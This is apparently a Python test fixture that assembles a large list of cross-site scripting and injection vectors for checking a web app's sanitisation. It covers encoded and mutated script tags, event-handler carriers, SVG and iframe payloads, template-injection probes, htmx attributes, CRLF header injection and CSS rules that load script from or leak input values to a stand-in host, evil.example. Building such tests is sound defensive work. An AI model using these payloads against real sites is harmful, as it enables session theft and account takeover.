"""Texts that would run a script where something on their way to the page was forgotten.

`RUN` calls a function that the test puts into every page; some vectors open a dialog instead, or
change the window. Combined where a trick goes with several elements, so that no list is forgotten
in the middle. No vector here is known to work on anything; they are the shapes of what once did.
"""

from itertools import product

from tests.browser.markdown_vectors import LINKS, MARKDOWN, MUTATIONS, URLS

RUN = "ran(1)"

_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script >{run}</script >",
    "<script\x0c>{run}</script\x0c>",
    "<script/x>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "</template><script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "`><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    "<? foo='><script>{run}</script>' ?>",
    "<% foo='><script>{run}</script>' %>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "%253Cscript%253E{run}%253C%252Fscript%253E",
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "<ſcript>{run}</ſcript>",
    "<scrıpt>{run}</scrıpt>",
    "\ufeff<script>{run}</script>",
    "\u202e<script>{run}</script>\u202c",
    "\u2028<script>{run}</script>\u2029",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.{run}&lt;/script&gt;></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src=javascript:{run}>",
    "<applet code=javascript:{run}></applet>",
    "<base href=javascript:{run}//>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{run}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=javascript:{run}>",
    "<link rel=import href=data:text/html,<script>{run}</script>>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<style>@import 'javascript:{run}';</style>",
    "<style>body{{background:url(javascript:{run})}}</style>",
    "<style>*{{x:expression({run})}}</style>",
    "<form action=javascript:{run}><button>go</button></form>",
    "<form id=ask></form><input form=ask name=step value=post>",
    "<button formaction=javascript:{run}>go</button>",
    "<input type=image src=x onerror={run}>",
    "<isindex action=javascript:{run} type=submit value=go>",
    "<math href=javascript:{run}>go</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>go</maction></math>",
    "<svg><script>{run}</script></svg>",
    "<svg><script>alert&lpar;1)</script></svg>",
    "<svg><script href=data:text/javascript,{run} /></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=20>go</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{run} begin=0s /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{run}</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>",
    "<svg><style>{{font-family:'<iframe/onload={run}>'</style></svg>",
    "<svg><![CDATA[><image xlink:href=x onerror={run}>]]></svg>",
    "<svg/onload=&#97;lert(1)>",
    "<template><script>{run}</script></template>",
    "<portal src=javascript:{run}></portal>",
    "<custom-element onfocus={run} tabindex=0 autofocus></custom-element>",
    "<is-land on:visible><template data-island><script>{run}</script></template></is-land>",
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle"),
    *("onpointerrawupdate", "onbeforeinput", "oncontentvisibilityautostatechange", "onwheel"),
)
_CARRIERS = (
    "<img src=x {on}={run}>",
    "<body {on}={run}>",
    "<svg {on}={run}>",
    "<details open {on}={run}><summary>x</summary></details>",
    '<b/{on}="{run}">x</b>',
    "<a\n{on}\n=\n'{run}' href=#x>x</a>",
    '" {on}="{run}" x="',
    "' autofocus {on}='{run}' x='",
    "<code class='x' {on}={run}>x</code>",
    "<mark {on}={run} tabindex=0 autofocus>x</mark>",
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{{{ 7 * '7' }}}}",
    "{{% print(7*7) %}}",
    "{{# {run} #}}",
    "{{{{config}}}}",
    "{{{{self.__init__.__globals__}}}}",
    "{{{{''.__class__.__mro__}}}}",
    "{{{{request.cookies}}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "@(7*7)",
    "%(name)s %(num)s %s %d %%",
    "{{0}} {{name}} {{0.__class__}}",
    "$(document.cookie)",
    "<div ng-app>{{{{constructor.constructor('{run}')()}}}}</div>",
    "<div v-html=\"'<img src=x onerror={run}>'\">x</div>",
    "<div x-data x-init='{run}'>x</div>",
)
_HTMX = (
    "<div hx-on:load='{run}'>x</div>",
    "<div hx-on--load='{run}' data-hx-on-load='{run}'>x</div>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div hx-post=/sign-out hx-trigger='load'>x</div>",
    "<div hx-vals='js:{{x:{run}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-trigger='load[{run}]' hx-get=/>x</div>",
    "<div data-hx-get=/ data-hx-trigger=load data-hx-target=body>x</div>",
    "<p id=title hx-swap-oob=true>x</p>",
    "<title hx-swap-oob=true>{run}</title>",
    "<hx-partial hx-target=body><script>{run}</script></hx-partial>",
    "<div id=similar-status hx-swap-oob='innerHTML:body'><script>{run}</script></div>",
    "<div hx-headers='js:{{x:{run}}}' hx-get=/ hx-trigger=revealed>x</div>",
)
_STYLES = (
    "<p style='background:url(javascript:{run})'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<p style='behavior:url(#default#time2)' onbegin='{run}'>x</p>",
    "<p style=-moz-binding:url(//evil.example/x#y)>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p class='visually-hidden' id=main>x</p>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={run}>x</b>",
    "<link rel=stylesheet href=data:text/css,body{{display:none}}>",
    "</style><style>input[value^=a]{{background:url(//evil.example/a)}}</style>",
    "<b class='found hit' data-opened=x data-clears-draft=ask data-draft=ask>x</b>",
)
_WORDS = (
    "%0d%0aSet-Cookie:%20x=1%0d%0a%0d%0a<script>{run}</script>",
    "x\r\nLocation: javascript:{run}",
    "';{run};//",
    '";{run};//',
    "\\';{run};//",
    "`;{run};//",
    "-{run}-",
    "'-{run}-'",
    '"-{run}-"',
    "*/{run}/*",
    "</script>\n{run}",
    "<img src=x:{run} onerror=eval(src)>",
    "<img src=x onerror=window.onerror=eval;throw'=ran\\x281\\x29'>",
    "<img src=x onerror=location='javas'+'cript:ran%281%29'>",
    "<img src=x onerror=ran`1`>",
    "<img src=x onerror=print()>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    "<img src=x onerror=open('about:blank')>",
    "<img src=x onerror=document.title='taken'>",
    "<a id=document name=cookie href=#x>x</a>",
    "<img name=body><form name=forms><input name=submit></form>",
    "__proto__[innerHTML]=<img src=x onerror={run}>",
    "constructor.prototype.innerHTML=<img/src/onerror={run}>",
)


def _fill(texts: tuple[str, ...]) -> list[str]:
    return [text.format(run=RUN) for text in texts]


def _combine() -> list[str]:
    handlers = [
        _CARRIERS[(place + turn) % len(_CARRIERS)].format(on=on, run=RUN)
        for place, on in enumerate(_HANDLERS)
        for turn in range(4)
    ]
    urls = [
        link.format(url=url, number=place)
        for place, (url, link) in enumerate(product(_fill(URLS), LINKS))
        if place % 3 == 0 or link.startswith("[go](")
    ]
    return handlers + urls


VECTORS = list(
    dict.fromkeys(
        [
            *_fill(_TAGS),
            *_fill(MARKDOWN),
            *_fill(MUTATIONS),
            *_fill(_TEMPLATES),
            *_fill(_HTMX),
            *_fill(_STYLES),
            *_fill(_WORDS),
            *_combine(),
        ]
    )
)
